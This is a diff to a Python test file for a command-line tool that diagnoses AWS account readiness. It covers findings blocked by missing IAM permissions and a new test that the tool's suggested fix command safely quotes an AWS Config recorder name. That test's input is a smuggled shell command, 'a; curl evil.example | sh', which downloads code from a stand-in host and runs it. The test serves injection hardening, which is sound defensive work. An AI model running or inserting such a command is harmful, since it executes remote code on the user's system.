@@ -9,6 +9,7 @@ from datetime import timedelta
 import pytest
 
 from readiness.engine.store import to_item
+from readiness.model.blindness import UNREADABLE
 from readiness.model.finding import iso
 from readiness.model.unreadable import Cause, Unreadable
 from readiness_cli import session
@@ -685,15 +686,38 @@ def test_transitions_that_wait_are_told_with_their_age(run, over):
 def test_findings_that_stay_unknown_name_the_missing_actions(run, over):
     blind = finding(
         status="INSUFFICIENT_DATA",
-        missing=("s3:GetEncryptionConfiguration",),
+        missing=("s3:GetEncryptionConfiguration", "kms:DescribeKey"),
+        denied=("s3:GetEncryptionConfiguration",),
         blinded_at=NOON,
     )
-    over(world(dynamodb__query=rows(sweeps=[swept(2)], still_open=[to_item(blind)])))
+    throttled = blind.but(rule="xray.tracing", missing=("xray:GetGroups",), denied=())
+    heading = blind.but(rule=UNREADABLE)
+    still_open = [to_item(each) for each in (blind, throttled, heading)]
+    over(world(dynamodb__query=rows(sweeps=[swept(2)], still_open=still_open)))
     said = run("doctor", "-o", "json")
-    [line] = of(said, "unknown")
+    [line, other] = of(said, "unknown")
     assert line["state"] == "warning"
     assert "encryption: 1 finding cannot be evaluated" in line["said"]
-    assert '"s3:GetEncryptionConfiguration"' in line["fix"]
+    assert "kms:DescribeKey" in line["said"]
+    assert '"Action": ["s3:GetEncryptionConfiguration"]' in line["fix"]
+    assert "without xray:GetGroups" in other["said"]
+    assert other["fix"] == "readiness findings --open --heading xray", "no permission is missing"
+
+
+def test_a_command_to_paste_runs_nothing_else(run, over):
+    """AWS Config takes any text as the name of a recorder."""
+    name = "a; curl evil.example | sh"
+    stopped = {"ConfigurationRecordersStatus": [recorder_status(name=name, recording=False)]}
+    over(
+        world(
+            config__describe_configuration_recorders={
+                "ConfigurationRecorders": [recorder(name=name)]
+            },
+            config__describe_configuration_recorder_status=stopped,
+        )
+    )
+    [line] = of(run("doctor", "-o", "json"), "recorder")
+    assert line["fix"].endswith(f" '{name}'")
 
 
 def test_outside_the_home_region_global_events_do_not_arrive(run, over, monkeypatch):
